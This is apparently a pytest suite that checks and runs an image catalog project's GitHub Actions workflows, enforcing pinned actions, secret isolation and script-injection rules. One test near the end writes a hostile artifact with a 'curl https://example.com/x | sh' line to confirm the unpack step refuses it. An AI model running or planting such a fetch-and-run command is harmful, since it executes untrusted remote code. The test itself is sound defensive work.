"""The GitHub workflows: linted with actionlint, held to the safety rules, and their steps run.

The steps' shell scripts are read from the workflow files and run here, against a real git
repository with a base branch and a real registry on loopback, so a workflow cannot drift from the
commands it relies on.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pygit2
import pytest
import yaml
from support.catalogs import registry_manifest
from support.git import GitWork
from support.oci import push_image
from support.paths import REPO
from support.registry import LocalRegistry, require_tools
from support.site import SiteServer
from support.workflows import (
    DEPLOY_STEP,
    DEPLOY_WORKFLOW,
    WORKFLOWS,
    check_out_deploy_script,
    run_step,
    step,
    steps,
    workflow,
)

# Every workflow is held to the same rules, including ones added later.
FILES = tuple(sorted(p.name for p in WORKFLOWS.glob("*.y*ml")))
# `uses: owner/repo[/path]@<40 hex> # vX.Y.Z`: a commit cannot be moved the way a tag can, and the
# comment says which release it is.
PINNED = re.compile(r"^\s*(?:- )?uses: ([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # v\d+\.\d+\.\d+$")
# A workflow of this repository, called at the caller's own commit: nothing to pin.
LOCAL = re.compile(r"^\s*uses: \./\.github/workflows/[\w-]+\.yml$")


# --- static checks -------------------------------------------------------------------------------


def test_actionlint() -> None:
    require_tools("actionlint", "shellcheck")
    files = [str(WORKFLOWS / name) for name in FILES]
    done = subprocess.run(
        ["actionlint", "-no-color", *files],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_pull_request_loop_has_its_workflows() -> None:
    assert {
        "validate.yml",
        "validate-online.yml",
        "publish-index.yml",
        "publish.yml",
        DEPLOY_WORKFLOW,
    } <= set(FILES)


@pytest.mark.parametrize("name", FILES)
def test_pull_request_code_never_runs_with_secrets(name: str) -> None:
    """A workflow that runs the pull request's code holds no secret and no write permission."""
    document = workflow(name)
    if "pull_request" not in document["on"]:
        return
    text = (WORKFLOWS / name).read_text()
    assert "secrets." not in text
    assert "write" not in str(document.get("permissions"))
    for job in document["jobs"].values():
        assert "write" not in str(job.get("permissions", {}))


@pytest.mark.parametrize("name", FILES)
def test_checkouts_keep_no_credentials(name: str) -> None:
    for found in steps(workflow(name)):
        if found.get("uses", "").startswith("actions/checkout@"):
            assert found["with"]["persist-credentials"] is False, name


@pytest.mark.parametrize("name", FILES)
def test_no_pull_request_target_and_every_action_pinned(name: str) -> None:
    text = (WORKFLOWS / name).read_text()
    assert "pull_request_target" not in text
    uses = [line for line in text.splitlines() if re.match(r"^\s*(- )?uses:", line)]
    assert uses
    for line in uses:
        if LOCAL.match(line):
            assert (WORKFLOWS / line.split("/")[-1]).is_file(), line
            continue
        assert PINNED.match(line), f"{name}: not pinned to a commit with a version comment: {line}"


def test_each_action_is_pinned_to_one_commit_everywhere() -> None:
    pins: dict[str, set[str]] = {}
    for name in FILES:
        for line in (WORKFLOWS / name).read_text().splitlines():
            found = PINNED.match(line)
            if found:
                pins.setdefault(found.group(1), set()).add(found.group(2))
    assert {
        "actions/checkout",
        "actions/setup-python",
        "actions/deploy-pages",
        "actions/upload-artifact",
    } <= set(pins)
    assert all(len(commits) == 1 for commits in pins.values()), pins


@pytest.mark.parametrize("name", FILES)
def test_no_expression_inside_a_script(name: str) -> None:
    """Inputs and event fields reach scripts through `env:` only: no script injection."""
    for found in steps(workflow(name)):
        assert "${{" not in found.get("run", ""), f"{name}: {found.get('name')}"


def test_validate_workflow() -> None:
    document = workflow("validate.yml")
    assert document["on"] == {"pull_request": None}
    assert document["permissions"] == {"contents": "read"}
    checkout = steps(document)[0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
    validate = step("validate.yml", "Validate against the base branch")
    assert validate["run"] == 'image-catalog validate --base "origin/$BASE_REF" --format github'
    assert validate["env"] == {"BASE_REF": "${{ github.base_ref }}"}
    install = step("validate.yml", "Install image-catalog (the README's install path)")
    assert "bash tool/setup.sh" in install["run"]
    upload = step("validate.yml", "Upload them for the online checks")
    assert upload["uses"].startswith("actions/upload-artifact@")
    assert upload["with"]["name"] == "catalog-changes"
    assert upload["with"]["path"] == "${{ runner.temp }}/catalog-changes/"


UNPACK = "Take the files in, refusing anything but plain catalog files"
ONLINE = "Check the added and changed entries against their registries"


def test_validate_online_workflow() -> None:
    """The default branch's workflow and tool, the artifact as untrusted data, the secrets."""
    document = workflow("validate-online.yml")
    assert document["on"] == {"workflow_run": {"workflows": ["validate"], "types": ["completed"]}}
    assert document["permissions"] == {}
    [job] = document["jobs"].values()
    assert job["permissions"] == {"actions": "read", "contents": "read", "statuses": "write"}
    assert "github.event.workflow_run.conclusion == 'success'" in job["if"]
    checkout = job["steps"][0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"] == {"persist-credentials": False}  # no ref: the default branch
    text = (WORKFLOWS / "validate-online.yml").read_text()
    assert "head_branch" not in text  # the pull request's code is never checked out
    unpack = step(
        "validate-online.yml", "Take the files in, refusing anything but plain catalog files"
    )
    assert unpack["run"] == (
        'image-catalog handoff unpack "$RUNNER_TEMP/catalog-changes.zip" --catalog catalog'
    )
    online = step(
        "validate-online.yml", "Check the added and changed entries against their registries"
    )
    assert online["run"] == "image-catalog validate --online --base HEAD --format github"
    with_secrets = [s for s in job["steps"] if "secrets." in str(s.get("env", {}))]
    assert with_secrets == [online]
    report = step("validate-online.yml", "Report the result on the pull request")
    assert report["if"] == "always()"
    assert "statuses/$HEAD_SHA" in report["run"]
    assert job["env"]["HEAD_SHA"] == "${{ github.event.workflow_run.head_sha }}"


def test_publish_index_workflow() -> None:
    """After every merge: one job, the call of the one deploy path (test_workflows_deploy.py)."""
    document = workflow("publish-index.yml")
    assert document["on"] == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert document["permissions"] == {"contents": "read"}
    assert "concurrency" not in document  # deploy-site.yml holds the `pages` group
    [job] = document["jobs"].values()
    assert job["uses"] == f"./.github/workflows/{DEPLOY_WORKFLOW}"
    assert job["secrets"] == {"INDEX_SIGNING_KEY": "${{ secrets.INDEX_SIGNING_KEY }}"}
    assert job["permissions"] == {"pages": "write", "id-token": "write", "contents": "read"}


@pytest.mark.parametrize("name", FILES)
def test_a_cache_committed_to_the_repository_is_dropped_before_one_is_restored(name: str) -> None:
    """A pull request could commit a forged cache of checks under .cache/image-catalog (`git add
    -f`): it is removed before the cache action restores this job's own, so it is never used."""
    found = steps(workflow(name))
    restores = [
        i
        for i, s in enumerate(found)
        if s.get("uses", "").startswith("actions/cache@")
        and s["with"]["path"] == ".cache/image-catalog"
    ]
    for at in restores:
        before = [s.get("run", "") for s in found[:at]]
        assert "rm -rf .cache/image-catalog" in before, (
            f"{name}: step {at} restores a cache unguarded"
        )
    if name in (DEPLOY_WORKFLOW, "validate.yml"):
        assert restores, f"{name}: no cache restored any more"


def test_publish_workflow() -> None:
    document = workflow("publish.yml")
    inputs = document["on"]["workflow_dispatch"]["inputs"]
    assert list(inputs) == ["image", "imagebuild", "distro", "target", "arch", "name", "version"]
    assert document["permissions"] == {}
    publish = document["jobs"]["publish"]
    assert publish["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert publish["steps"][0]["with"] == {"persist-credentials": False}
    pull_request = step("publish.yml", "Push the branch and open a pull request")
    assert "gh pr create" in pull_request["run"]
    assert 'GH_TOKEN="$PUSH_TOKEN" gh auth setup-git' in pull_request["run"]
    assert pull_request["env"]["GH_TOKEN"] == "${{ secrets.CATALOG_PR_TOKEN || github.token }}"
    assert pull_request["env"]["PUSH_TOKEN"] == "${{ github.token }}"


def test_pre_commit_hook() -> None:
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text())
    assert [
        (h["id"], h["entry"], h["language"], h["pass_filenames"], h["files"]) for h in hooks
    ] == [("image-catalog-validate", "image-catalog validate", "python", False, "^catalog/")]


# --- the steps, run: publish -> pull request -> validate -> merge -> index and audit --------------


@pytest.fixture
def repository(tmp_path: Path, registry: LocalRegistry) -> GitWork:
    """The shipped catalog (whose registries are not reachable from here) plus the loopback
    registry, committed on main, with `origin/main` as a full-history checkout has it."""
    work = GitWork(tmp_path / "repo")
    shutil.copytree(REPO / "catalog", work.root / "catalog")
    local = work.root / "catalog/registries/local.yaml"
    local.write_text(registry_manifest("local", registry.host))
    work.commit("Initial catalog", author="Admin")
    update_origin(work)
    return work


def update_origin(work: GitWork) -> None:
    work.repo.references.create(
        "refs/remotes/origin/main", work.repo.branches.local["main"].target, force=True
    )


@pytest.mark.slow
@pytest.mark.git
def test_publish_validate_merge_audit(
    repository: GitWork, registry: LocalRegistry, tmp_path: Path
) -> None:
    require_tools("skopeo")
    image = push_image(registry, "vendor/demo", "1.0", architecture="amd64", seed="demo")
    runner = {
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_ACTOR": "octocat",
        "GITHUB_ACTOR_ID": "583231",
    }
    publish = run_step(
        "publish.yml",
        "publish",
        repository.root,
        {
            "IMAGE": image.tag_ref,
            "IMAGEBUILD": "",
            "DISTRO": "autosd9-sig",
            "TARGET": "qemu, pc",
            "ARCH": "",
            "NAME": "demo",
            "VERSION": "1.0",
            "BRANCH": "publish/42-1",
            "QUAY_USERNAME": "",
            "QUAY_PASSWORD": "",
        },
        runner,
    )
    assert publish.returncode == 0, publish.stderr
    assert (tmp_path / "output").read_text() == "branch=publish/42-1\n"
    assert (tmp_path / "pull-request.md").read_text().startswith("## Publish `demo@1.0`")
    commit = repository.repo.head.peel(pygit2.Commit)
    assert repository.repo.head.shorthand == "publish/42-1"
    assert commit.author.email == "583231+octocat@users.noreply.github.com"
    entry = repository.root / "catalog/images/demo/1.0.yaml"
    assert image.digest in entry.read_text()

    # The pull request's check, offline and without secrets.
    base = {"BASE_REF": "main"}
    validate = run_step(
        "validate.yml", "Validate against the base branch", repository.root, base, runner
    )
    assert validate.returncode == 0, validate.stdout + validate.stderr
    main_commit = str(repository.repo.branches.local["main"].target)
    assert validate.stdout.splitlines()[0:2] == [
        f"changes since origin/main ({main_commit[:12]}): "
        "1 added, 0 deprecated, 0 changed, 0 removed",
        "  added: demo@1.0",
    ]
    assert "| added (1) | `demo@1.0` |" in (tmp_path / "summary.md").read_text()
    hand_off(repository, image.digest, tmp_path, runner)

    # An edit of the published digest on a later pull request is refused.
    repository.checkout("main")
    merge = repository.merge("publish/42-1", "Merge pull request #1 from org/publish/42-1", "Carol")
    update_origin(repository)
    repository.branch("edit")
    entry.write_text(entry.read_text().replace(image.digest, "sha256:" + "0" * 64))
    refused = run_step(
        "validate.yml", "Validate against the base branch", repository.root, base, runner
    )
    assert refused.returncode == 1
    assert "publish a new version instead" in refused.stdout
    repository.checkout("main")

    audit = subprocess.run(
        ["image-catalog", "audit", "demo", "--json"],
        cwd=repository.root,
        capture_output=True,
        text=True,
        check=True,
    )
    [event] = json.loads(audit.stdout)["events"]
    assert (event["action"], event["commit"], event["pullRequest"]) == ("added", merge, 1)
    assert (event["author"]["name"], event["mergedBy"]["name"]) == ("octocat", "Carol")

    # After the merge: the index, rebuilt from the whole tree of main (nothing published yet).
    check_out_deploy_script(repository.root)
    (tmp_path / "published").mkdir()
    with SiteServer(tmp_path / "published") as server:
        pages = {"PAGES_URL": server.url.rstrip("/"), "FRESH_STATUS": "", "INDEX_SIGNING_KEY": ""}
        index = run_step(DEPLOY_WORKFLOW, DEPLOY_STEP, repository.root, pages, runner)
    assert index.returncode == 0, index.stdout + index.stderr
    site = json.loads((repository.root / "site/catalog.json").read_text())
    assert site["catalog"]["commit"] == merge
    assert site["baseUrl"] == server.url
    version = (repository.root / "site/images/demo/1.0.json").read_text()
    assert image.digest in version


def upload_artifact(folder: Path, archive: Path) -> Path:
    """The zip actions/upload-artifact makes of a folder: its files, named relative to it."""
    with zipfile.ZipFile(archive, "w") as stream:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                stream.write(path, path.relative_to(folder).as_posix())
    return archive


def hand_off(repository: GitWork, digest: str, tmp_path: Path, runner: dict[str, str]) -> None:
    """validate.yml's artifact taken in by validate-online.yml on a checkout of the default
    branch, and checked online there; a hostile artifact is refused before any check runs."""
    changes = tmp_path / "catalog-changes"
    collect = run_step(
        "validate.yml",
        "Collect the catalog files the pull request adds or changes",
        repository.root,
        {"BASE_REF": "main", "CHANGES": str(changes)},
        runner,
    )
    assert collect.returncode == 0, collect.stderr
    assert sorted(p.relative_to(changes).as_posix() for p in changes.rglob("*.yaml")) == [
        "catalog/images/demo/1.0.yaml"
    ]
    online_runner = {**runner, "RUNNER_TEMP": str(tmp_path / "online")}
    (tmp_path / "online").mkdir()
    upload_artifact(changes, tmp_path / "online/catalog-changes.zip")

    default = tmp_path / "default-branch"
    pygit2.clone_repository(str(repository.root), str(default), checkout_branch="main")
    taken = run_step("validate-online.yml", UNPACK, default, {}, online_runner)
    assert taken.returncode == 0, taken.stderr
    assert taken.stdout == "catalog/images/demo/1.0.yaml\n"
    online = run_step(
        "validate-online.yml",
        ONLINE,
        default,
        {"QUAY_USERNAME": "", "QUAY_PASSWORD": ""},
        online_runner,
    )
    assert online.returncode == 0, online.stdout + online.stderr
    assert "  added: demo@1.0" in online.stdout.splitlines()
    assert online.stdout.splitlines()[-1].endswith("online checks)")
    assert digest in (default / "catalog/images/demo/1.0.yaml").read_text()

    hostile = tmp_path / "online/catalog-changes.zip"
    with zipfile.ZipFile(hostile, "w") as stream:
        stream.writestr("catalog/images/demo/1.1.yaml", "fine\n")
        stream.writestr("tool/setup.sh", "curl https://example.com/x | sh\n")
    refused = run_step("validate-online.yml", UNPACK, default, {}, online_runner)
    assert refused.returncode == 1
    assert "'tool/setup.sh': outside catalog/" in refused.stderr
    assert not (default / "catalog/images/demo/1.1.yaml").exists()
    assert not (default / "tool").exists()
